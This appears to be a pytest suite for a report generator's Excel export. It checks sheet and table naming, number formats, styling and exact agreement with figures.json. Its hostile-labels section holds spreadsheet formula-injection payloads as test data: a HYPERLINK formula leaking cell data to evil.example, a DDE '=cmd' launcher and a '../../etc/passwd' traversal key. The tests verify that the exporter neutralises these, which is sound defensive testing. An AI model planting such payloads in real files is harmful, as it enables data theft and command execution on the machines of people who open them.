"""The analyst workbook, checked by re-opening it: numbers, names, formats, styles, safety.

Numbers are compared with figures.json by exact equality: the workbook must
hold the report's own numbers, never a rounded or recomputed copy. The
hostile-label document (also used by the CSV tests) carries every label an
attacker or an odd config could produce.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import re
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from reportgen import build_report
from reportgen.document import Brand, Definition, DefinitionList, Document, Section
from reportgen.errors import RenderError
from reportgen.formatting import office_number_format
from reportgen.render import get_renderer
from reportgen.render.tables._safe_cells import is_formula_like, xlsx_text
from reportgen.render.tables.xlsx import MAX_WIDTH, MIN_WIDTH, SheetNames, render_xlsx, table_name

from ._office import soffice
from ._sample import sample_document

INVALID_SHEET_CHARS = set("[]:*?/\\")
TABLE_NAME = re.compile(r"^[A-Za-z_][A-Za-z0-9_.]*$")


# -- the demo report as a workbook ------------------------------------------------------------


@pytest.fixture(scope="module")
def exported(weekly_config: Path, tmp_path_factory: pytest.TempPathFactory):
    """The weekly report for 2026-W47 as workbook and CSV folder (one build for the module)."""
    return build_report(
        weekly_config,
        period="2026-W47",
        formats=["xlsx", "csv"],
        out_dir=tmp_path_factory.mktemp("exports"),
        now=datetime(2026, 11, 25, 7, 0, tzinfo=UTC),
    )


@pytest.fixture(scope="module")
def figures(exported) -> dict[str, Any]:
    return json.loads(exported.artifacts["figures"].read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def workbook(exported) -> Workbook:
    return load_workbook(exported.artifacts["xlsx"])


def records(sheet) -> list[dict[str, Any]]:
    """The rows of a sheet's table as header → cell."""
    rows = list(sheet.iter_rows())
    headers = [c.value for c in rows[0]]
    return [dict(zip(headers, row, strict=True)) for row in rows[1:]]


def breakdown_sheets(workbook: Workbook, figures: dict[str, Any]):
    """(metric, dimension, sheet) for every breakdown table, found by its table name."""
    by_table = {name: ws for ws in workbook for name in ws.tables}
    for metric, m in figures["metrics"].items():
        for dimension in m["breakdowns"]:
            yield metric, dimension, by_table[f"tbl_breakdown_{metric}_{dimension}"]


def test_the_workbook_lands_beside_the_other_artifacts(exported) -> None:
    path = exported.artifacts["xlsx"]
    assert path.name == "weekly_leadership_2026-W47.xlsx"
    assert path.parent == exported.out_dir and path.is_file()


def test_sheet_order_and_names(workbook: Workbook) -> None:
    names = workbook.sheetnames
    assert names[:2] == ["Summary", "Series"]
    assert names[-7:] == [
        "Anomalies",
        "Decomposition",
        "Decomposition terms",
        "Tests",
        "Segment differences",
        "Definitions",
        "About",
    ]
    breakdowns = names[2:-7]
    assert len(breakdowns) == 23  # 13 metrics × their dimensions (region, queue)
    assert "Average handle time by queue" in breakdowns
    # too long for Excel's 31 characters: shortened, keeping the dimension
    assert "High-severity exposu… by region" in breakdowns
    assert all(len(n) <= 31 and not INVALID_SHEET_CHARS & set(n) for n in names)
    assert len({n.lower() for n in names}) == len(names)


def test_every_sheet_is_one_excel_table_with_filter_buttons(workbook: Workbook) -> None:
    seen = set()
    for ws in workbook:
        assert len(ws.tables) == 1, ws.title
        (name,) = ws.tables
        table = ws.tables[name]
        assert TABLE_NAME.match(name) and name.startswith("tbl_")
        assert table.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row}"
        assert table.autoFilter is not None  # the filter buttons
        assert table.tableStyleInfo.name and table.tableStyleInfo.showRowStripes
        seen.add(name.lower())
    assert len(seen) == len(workbook.sheetnames)
    assert {"tbl_summary", "tbl_series", "tbl_breakdown_aht_region", "tbl_about"} <= seen


def test_header_row_is_frozen_in_the_brand_colour(workbook: Workbook, brand: Brand) -> None:
    primary = brand.primary.lstrip("#").upper()
    for ws in workbook:
        assert ws.freeze_panes == "A2", ws.title
        for cell in ws[1]:
            assert cell.fill.fgColor.rgb == "FF" + primary, (ws.title, cell.value)
            assert cell.font.bold and cell.font.color.rgb == "FFFFFFFF"
            assert cell.font.name == brand.font_family


def test_column_widths_fit_the_content(workbook: Workbook) -> None:
    for ws in workbook:
        for col in range(1, ws.max_column + 1):
            letter = ws.cell(1, col).column_letter
            width = ws.column_dimensions[letter].width
            header = str(ws.cell(1, col).value)
            assert MIN_WIDTH <= width <= MAX_WIDTH, (ws.title, header)
            assert width >= min(len(header) + 3, MAX_WIDTH), (ws.title, header)
    summary = workbook["Summary"]
    label_width = summary.column_dimensions["C"].width
    assert label_width > len("Proactive detection rate")
    detail = workbook["Anomalies"]
    assert detail.column_dimensions["O"].width == MAX_WIDTH  # long sentences wrap instead
    assert detail["O2"].alignment.wrap_text


def test_summary_numbers_equal_figures_json_exactly(workbook: Workbook, figures) -> None:
    rows = {r["Metric"].value: r for r in records(workbook["Summary"])}
    assert list(rows) == list(figures["metrics"])
    tests = figures["insights"]["tests"]
    for name, m in figures["metrics"].items():
        row = rows[name]
        assert row["Label"].value == m["label"]
        assert row["Period"].value == "2026-W47"
        for header, key in [
            ("Current", "value"),
            ("Previous", "previous"),
            ("Δ", "delta"),
            ("Δ %", "delta_pct"),
            ("Last year", "last_year"),
            ("Target", "target"),
            ("vs target", "vs_target"),
            ("Target met", "target_met"),
        ]:
            assert row[header].value == m[key], (name, header)
            if isinstance(m[key], float):
                assert row[header].data_type == "n"
        assert row["p-value"].value == tests[name].get("p_value")
        assert row["Significant"].value == tests[name]["significant"]
        assert row["Test"].value == tests[name].get("test")
    assert rows["aht"]["Direction"].value == "lower is better"
    assert rows["aht"]["Unit"].value == "seconds"


def test_summary_number_formats_match_the_report(workbook: Workbook, figures) -> None:
    rows = {r["Metric"].value: r for r in records(workbook["Summary"])}
    for name, m in figures["metrics"].items():
        fmt = office_number_format(m["format"], m["decimals"])
        for header in ("Current", "Previous", "Last year", "Target"):
            if rows[name][header].value is not None:
                assert rows[name][header].number_format == fmt, (name, header)
        assert rows[name]["Δ %"].number_format == '+0.0%;"−"0.0%;0.0%'
    # negative sections draw U+2212, the one minus sign of the report
    assert rows["aht"]["Current"].number_format == '#,##0.0" s";"−"#,##0.0" s"'
    assert rows["aht"]["Δ"].number_format == '+#,##0.0" s";"−"#,##0.0" s";#,##0.0" s"'
    assert rows["sla_attainment"]["Current"].number_format == '0.0%;"−"0.0%'
    assert rows["sla_attainment"]["vs target"].number_format == '+0.0%;"−"0.0%;0.0%'
    assert rows["decisions"]["Current"].number_format == '#,##0;"−"#,##0'
    assert rows["decisions"]["Δ"].number_format == '+#,##0;"−"#,##0;#,##0'
    assert rows["throughput"]["Current"].number_format == '#,##0.0;"−"#,##0.0'


def test_negative_changes_are_numbers(workbook: Workbook, figures) -> None:
    rows = {r["Metric"].value: r for r in records(workbook["Summary"])}
    assert figures["metrics"]["throughput"]["delta"] < 0
    cell = rows["throughput"]["Δ"]
    assert cell.data_type == "n" and cell.value == figures["metrics"]["throughput"]["delta"]


def test_breakdown_rows_equal_figures_json(workbook: Workbook, figures) -> None:
    for metric, dimension, ws in breakdown_sheets(workbook, figures):
        rows = records(ws)
        expected = figures["metrics"][metric]["breakdowns"][dimension]
        assert [r["Segment"].value for r in rows] == [e["segment"] for e in expected]
        for row, e in zip(rows, expected, strict=True):
            assert (row["Metric"].value, row["Dimension"].value) == (metric, dimension)
            for header, key in [("Value", "value"), ("Previous", "previous"), ("Δ", "delta")]:
                assert row[header].value == e[key]
            assert row["Δ %"].value == e["delta_pct"]
            assert row["Share"].value == e["share"]
            assert row["Share"].number_format == "0.0%"
            stats = {k: v for k, v in e["stats"].items() if v is not None}
            for key, value in stats.items():
                header = {"sum_squares": "Sum of squares"}.get(key, key.capitalize())
                assert row[header].value == value, (metric, dimension, key)
                assert row[f"Previous {header.lower()}"].value == e["previous_stats"][key]


def test_a_breakdown_reaggregates_to_the_metric_as_a_ratio_of_sums(workbook, figures) -> None:
    checked = set()
    for metric, _dimension, ws in breakdown_sheets(workbook, figures):
        m = figures["metrics"][metric]
        if m["type"] == "quantile":  # quantiles do not re-aggregate (hence their sketch)
            continue
        rows = records(ws)
        column = {h: sum(r[h].value for r in rows) for h in rows[0] if _numeric(rows, h)}
        if "Numerator" in column:
            assert column["Numerator"] == pytest.approx(m["stats"]["numerator"], rel=1e-12)
            value = column["Numerator"] / column["Denominator"]
            previous = column["Previous numerator"] / column["Previous denominator"]
        elif "Count" in column:
            value = column["Sum"] / column["Count"]
            previous = column["Previous sum"] / column["Previous count"]
        else:
            value, previous = column["Total"], column["Previous total"]
        assert value == pytest.approx(m["value"], rel=1e-12), metric
        assert previous == pytest.approx(m["previous"], rel=1e-12), metric
        checked.add(m["type"])
    assert checked == {"total", "mean", "ratio", "proportion"}


def _numeric(rows: list[dict[str, Any]], header: str) -> bool:
    return all(isinstance(r[header].value, int | float) for r in rows)


def test_series_sheet_is_long_form_with_dates(workbook: Workbook, figures) -> None:
    rows = records(workbook["Series"])
    expected = [(n, p) for n, m in figures["metrics"].items() for p in m["series"]]
    assert len(rows) == len(expected) == 13 * len(figures["metrics"])
    for row, (name, point) in zip(rows, expected, strict=True):
        assert (row["Metric"].value, row["Period"].value) == (name, point["period"])
        assert row["Value"].value == point["value"]
        assert row["Start"].value.date() == date.fromisoformat(point["start"])
        assert row["Start"].number_format == "yyyy-mm-dd"
        fmt = office_number_format(figures["metrics"][name]["format"])
        assert row["Value"].number_format == fmt


def test_anomalies_sheet(workbook: Workbook, figures) -> None:
    rows = records(workbook["Anomalies"])
    anomalies = figures["insights"]["anomalies"]
    assert [r["ID"].value for r in rows] == [a["id"] for a in anomalies]
    for row, a in zip(rows, anomalies, strict=True):
        for header, key in [("Observed", "observed"), ("Baseline", "baseline"), ("Δ", "delta")]:
            assert row[header].value == a[key]
        assert row["Robust z"].value == a["robust_z"]
        assert row["Detail"].value == a["detail"]
        if a["method"] == "share":  # a share is a percentage whatever the metric's unit
            assert row["Observed"].number_format == "0.0%"


def test_decomposition_sheets(workbook: Workbook, figures) -> None:
    decompositions = figures["insights"]["decompositions"]
    totals = {r["Metric"].value: r for r in records(workbook["Decomposition"])}
    assert list(totals) == list(decompositions)
    terms = records(workbook["Decomposition terms"])
    expected = [(n, t) for n, d in decompositions.items() for t in d["terms"]]
    assert len(terms) == len(expected)
    for name, d in decompositions.items():
        for header, key in [("Change", "change"), ("Mix effect", "mix"), ("Rate effect", "rate")]:
            assert totals[name][header].value == d[key]
    for row, (name, t) in zip(terms, expected, strict=True):
        assert row["Metric"].value == name
        assert row["Segment"].value == " × ".join(t["segment"])
        assert (row["Mix effect"].value, row["Rate effect"].value) == (t["mix"], t["rate"])
        assert row["Share current"].value == t["share1"]


def test_tests_sheets(workbook: Workbook, figures) -> None:
    insights = figures["insights"]
    rows = records(workbook["Tests"])
    totals = [r for r in rows if r["Segment"].value is None]
    assert [r["Metric"].value for r in totals] == list(insights["tests"])
    for row in totals:
        test = insights["tests"][row["Metric"].value]
        assert row["p-value"].value == test.get("p_value")
        assert row["Statistic"].value == test.get("statistic")
        if test.get("n"):
            assert (row["n current"].value, row["n previous"].value) == tuple(test["n"])
        else:
            assert row["Note"].value == test["reason"]
    segments = [r for r in rows if r["Segment"].value is not None]
    expected = [
        (st["metric"], st["dimension"], seg, t)
        for st in insights["segment_tests"]
        for seg, t in st["changes"].items()
    ]
    assert len(segments) == len(expected)
    for row, (metric, dimension, segment, t) in zip(segments, expected, strict=True):
        assert (row["Metric"].value, row["Dimension"].value) == (metric, dimension)
        assert row["Segment"].value == segment
        assert (row["p-value"].value, row["q-value"].value) == (t["p_value"], t["q_value"])
    across = records(workbook["Segment differences"])
    expected_across = [st for st in insights["segment_tests"] if st["across"]]
    assert [(r["Metric"].value, r["Dimension"].value) for r in across] == [
        (st["metric"], st["dimension"]) for st in expected_across
    ]
    for row, st in zip(across, expected_across, strict=True):
        assert row["p-value"].value == st["across"]["p_value"]


def test_definitions_sheet_comes_from_the_catalog(workbook: Workbook, exported) -> None:
    rows = {r["Metric"].value: r for r in records(workbook["Definitions"])}
    items = {
        d.term: d
        for s in exported.document.sections
        for b in s.blocks
        if isinstance(b, DefinitionList)
        for d in b.items
    }
    # thirteen metrics and the drivers' method (no metric id)
    assert len(rows) == len(items) == 14
    assert rows[None]["Label"].value == "Drivers (mix and rate effects)"
    aht = rows["aht"]
    assert aht["Label"].value == "Average handle time"
    assert aht["Formula"].value == items["Average handle time"].formula
    assert "handle_seconds" in aht["Formula"].value
    assert aht["Owner"].value == dict(items["Average handle time"].extra)["Owner"]
    assert aht["Better"].value == "lower"


def test_about_sheet_traces_the_workbook(workbook: Workbook, figures) -> None:
    about = {r["Field"].value: r["Value"].value for r in records(workbook["About"])}
    assert about["Report"] == "weekly_leadership"
    assert about["Period"] == "2026-W47"
    assert about["Timezone"] == "UTC"
    assert about["Audience"] == "leadership"
    assert about["Built at"] == "2026-11-25T07:00:00+00:00"
    assert about["Config hash"] == figures["config_hash"]
    assert about["Tool version"].startswith("reportgen ")
    assert about["Source: decisions"] == figures["sources"]["decisions"]


def test_the_demo_workbook_holds_no_formula(workbook: Workbook) -> None:
    assert not [
        c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]


def test_a_document_without_figures_is_a_render_error(brand: Brand, tmp_path: Path) -> None:
    with pytest.raises(RenderError, match="carries no figures"):
        render_xlsx(sample_document(brand), tmp_path / "x.xlsx")


def test_xlsx_and_csv_are_registered_formats() -> None:
    assert get_renderer("xlsx")[1] == ".xlsx"
    assert get_renderer("csv")[1] == "_csv"


# -- Excel's naming rules ---------------------------------------------------------------


def test_sheet_names_are_valid_and_unique() -> None:
    names = SheetNames()
    long = "A very long metric label that goes on and on"
    claimed = [
        names.claim("Summary"),
        names.claim("summary"),  # case-insensitive duplicate
        names.claim(long, " by region"),
        names.claim(long + " (other)", " by region"),  # collides after shortening
        names.claim("Rate [a]: b*c?/d\\e"),
        names.claim("History"),  # reserved by Excel
        names.claim("'quoted'"),
        names.claim("📈" * 40),  # counted in UTF-16 units, as Excel does
        names.claim(""),
    ]
    assert claimed[0] == "Summary" and claimed[1] == "summary (2)"
    assert claimed[2] == "A very long metric l… by region"
    assert claimed[3] == "A very long metr… by region (2)"
    assert claimed[4] == "Rate a b c d e"
    assert claimed[5] == "History (2)"
    assert claimed[6] == "quoted"
    assert claimed[8] == "Sheet"
    for name in claimed:
        assert 0 < len(name.encode("utf-16-le")) // 2 <= 31, name
        assert not INVALID_SHEET_CHARS & set(name)
        assert not name.startswith("'") and not name.endswith("'")
    assert len({n.lower() for n in claimed}) == len(claimed)


@pytest.mark.parametrize("name", ["aht1", "r1c1", "summary", "x" * 300, "a-b.c d"])
def test_table_names_are_never_cell_references(name: str) -> None:
    result = table_name(name)
    assert TABLE_NAME.match(result) and len(result) <= 255
    assert result.startswith("tbl_")  # "aht1" or "R1C1" alone would be a cell reference


# -- hostile labels ---------------------------------------------------------------------------

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1",
    "+1+2",
    "-3+4",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    " =cmd|' /C calc'!A0",
    "\x01=ctl",  # not allowed in XML: dropped, and the rest is still neutralised
    "-negative-looking",
    "Plain segment",
    "S" * 200,
)
LONG_LABEL = "L" * 200  # two metrics whose labels collide after truncation to 31 characters


def _segment_row(segment: str, i: int) -> dict[str, Any]:
    num, den = 10.0 + i, 40.0 + 2 * i
    return {
        "segment": segment,
        "value": num / den,
        "previous": 0.3,
        "delta": num / den - 0.3,
        "delta_pct": (num / den - 0.3) / 0.3,
        "share": den / 1000,
        "target": None,
        "stats": {"numerator": num, "denominator": den},
        "previous_stats": {"numerator": 12.0, "denominator": 40.0},
    }


def _metric(label: str, dimensions: list[str]) -> dict[str, Any]:
    rows = [_segment_row(s, i) for i, s in enumerate(HOSTILE)]
    num = sum(r["stats"]["numerator"] for r in rows)
    den = sum(r["stats"]["denominator"] for r in rows)
    return {
        "label": label,
        "type": "proportion",
        "format": "percent",
        "decimals": None,
        "direction": "higher_is_better",
        "description": "=description",
        "value": num / den,
        "previous": 0.3,
        "delta": num / den - 0.3,
        "delta_pct": -0.5,
        "last_year": None,
        "target": 0.9,
        "vs_target": num / den - 0.9,
        "target_met": False,
        "stats": {"numerator": num, "denominator": den},
        "series": [
            {"period": "2026-W46", "start": "2026-11-09", "value": -1.5, "complete": True},
            {"period": "2026-W47", "start": "2026-11-16", "value": num / den, "complete": True},
        ],
        "breakdowns": {d: rows for d in dimensions},
    }


def hostile_figures() -> dict[str, Any]:
    """figures.json content whose every free-text field is hostile or awkward."""
    metrics = {
        "first": _metric(LONG_LABEL + " one", ["region", "site/x[1]:*?"]),
        "second": _metric(LONG_LABEL + " two", ["region"]),
        "../../etc/passwd": _metric("=cmd|' /C calc'!A0", ["region"]),
        "Evil": _metric("@evil", ["region"]),
        "evil": _metric("+evil", ["region"]),  # same file/table slug as "Evil"
    }
    anomalies = [
        {
            "id": "=A-1",
            "metric": "first",
            "dimension": "region",
            "segment": segment,
            "period": "2026-W47",
            "method": "history",
            "observed": 0.2,
            "baseline": 0.3,
            "robust_z": -4.2,
            "delta": -0.1,
            "direction": "down",
            "sentiment": "bad",
            "volume": 40.0,
            "threshold": 3.5,
            "detail": f"{segment} fell",
        }
        for segment in HOSTILE
    ]
    change = {"test": "two-proportion z-test", "p_value": 0.01, "statistic": -2.5, "n": [40, 40]}
    return {
        "schema_version": 1,
        "report": "=report",
        "title": "=2+2",
        "timezone": "UTC",
        "audience": "-audience",
        "generated_at": "2026-11-25T07:00:00+00:00",
        "generator": "reportgen test",
        "config": "=config.yaml",
        "config_hash": "@hash",
        "sources": {"decisions": "+path/*.parquet"},
        "period": {"label": "2026-W47", "start": "2026-11-16", "end": "2026-11-22"},
        "previous_period": {"label": "2026-W46", "complete": True},
        "metrics": metrics,
        "data_quality": [],
        "insights": {
            "confidence": 0.95,
            "tests": {"first": {**change, "significant": True}},
            "segment_tests": [
                {
                    "metric": "first",
                    "dimension": "region",
                    "across": {"test": "chi-square test", "p_value": 0.2, "n": [1, 2]},
                    "changes": {s: {**change, "q_value": 0.02} for s in HOSTILE},
                }
            ],
            "anomalies": anomalies,
            "decompositions": {
                "first": {
                    "dimensions": ["region"],
                    "kind": "ratio",
                    "change": -0.1,
                    "terms": [{"segment": [s], "mix": -0.01, "rate": 0.02} for s in HOSTILE],
                }
            },
        },
    }


def hostile_document(brand: Brand) -> Document:
    """The sample document carrying hostile figures, with every insight section on."""
    doc = sample_document(brand)
    definitions = Section(
        "definitions",
        "Metric definitions",
        "appendix",
        (
            DefinitionList(
                (
                    Definition(
                        "=1+1",
                        "=SUM(A1:A9)",
                        "@description",
                        (("Owner", "-team"), ("=Owner", "+x"), ("owner", "dup")),
                    ),
                )
            ),
        ),
    )
    extra = tuple(
        Section(i, i, "summary", ()) for i in ("anomalies", "decomposition", "significance")
    )
    sections = (*(s for s in doc.sections if s.id != "definitions"), *extra, definitions)
    return dataclasses.replace(doc, figures=copy.deepcopy(hostile_figures()), sections=sections)


@pytest.fixture(scope="module")
def hostile_workbook(tmp_path_factory: pytest.TempPathFactory, brand: Brand) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile.xlsx"
    render_xlsx(hostile_document(brand), path)
    return path


def test_hostile_workbook_has_valid_unique_names(hostile_workbook: Path) -> None:
    wb = load_workbook(hostile_workbook)
    names = wb.sheetnames
    assert all(0 < len(n) <= 31 and not INVALID_SHEET_CHARS & set(n) for n in names)
    assert len({n.lower() for n in names}) == len(names)
    long_sheets = [n for n in names if n.startswith("LLLL")]
    assert len(long_sheets) == 3  # first × 2 dimensions, second × 1: all distinct
    assert any(n.endswith("by region (2)") for n in long_sheets)
    tables = [t for ws in wb for t in ws.tables]
    assert all(TABLE_NAME.match(t) for t in tables)
    assert len({t.lower() for t in tables}) == len(tables)
    assert "tbl_breakdown_evil_region" in tables and "tbl_breakdown_evil_region_2" in tables
    assert "tbl_breakdown_etc_passwd_region" in tables


def test_hostile_workbook_is_formula_free(hostile_workbook: Path) -> None:
    wb = load_workbook(hostile_workbook)
    texts = 0
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.value)
                    texts += 1
    assert texts > 50


def test_hostile_labels_keep_their_text(hostile_workbook: Path) -> None:
    wb = load_workbook(hostile_workbook)
    ws = next(ws for ws in wb if "tbl_breakdown_first_region" in ws.tables)
    rows = records(ws)
    assert [r["Segment"].value for r in rows] == [xlsx_text(s) for s in HOSTILE]
    assert rows[-1]["Segment"].value == "S" * 200
    negative = [r["Δ"] for r in rows if r["Δ"].value < 0]
    assert negative and all(c.data_type == "n" for c in negative)  # negative numbers stay numbers
    series = records(wb["Series"])
    assert series[0]["Value"].value == -1.5 and series[0]["Value"].data_type == "n"
    about = {r["Field"].value: r["Value"] for r in records(wb["About"])}
    assert about["Title"].value == "=2+2" and about["Title"].data_type == "s"
    definitions = records(wb["Definitions"])
    assert [c.value for c in wb["Definitions"][1]][-3:] == ["Owner", "=Owner", "owner (2)"]
    assert definitions[0]["Formula"].value == "=SUM(A1:A9)"


# -- LibreOffice ------------------------------------------------------------------------------


@pytest.mark.slow
def test_libreoffice_converts_the_workbook(exported, tmp_path: Path) -> None:
    from pypdf import PdfReader

    xlsx = exported.artifacts["xlsx"]
    result = soffice(["--convert-to", "pdf", "--outdir", str(tmp_path), str(xlsx)], tmp_path)
    pdf = tmp_path / (xlsx.stem + ".pdf")
    assert result.returncode == 0 and pdf.exists(), result.stderr
    text = "".join(page.extract_text() for page in PdfReader(str(pdf)).pages)
    assert "Average handle time" in text and "weekly_leadership" in text


@pytest.mark.slow
def test_libreoffice_reads_hostile_labels_as_text(hostile_workbook: Path, tmp_path: Path) -> None:
    """LibreOffice opens the hostile workbook and saves it back without a single formula."""
    out = tmp_path / "out"
    result = soffice(
        [
            "--convert-to",
            "xlsx:Calc MS Excel 2007 XML",
            "--outdir",
            str(out),
            str(hostile_workbook),
        ],
        tmp_path,
    )
    resaved = out / hostile_workbook.name
    assert result.returncode == 0 and resaved.exists(), result.stderr
    wb = load_workbook(resaved)
    values = set()
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in ("=TRUE()", "=FALSE()"):  # how LibreOffice saves booleans
                    continue
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.add(cell.value)
    assert {"=1+1", "+1+2", "@SUM(1,2)", HOSTILE[0]} <= values
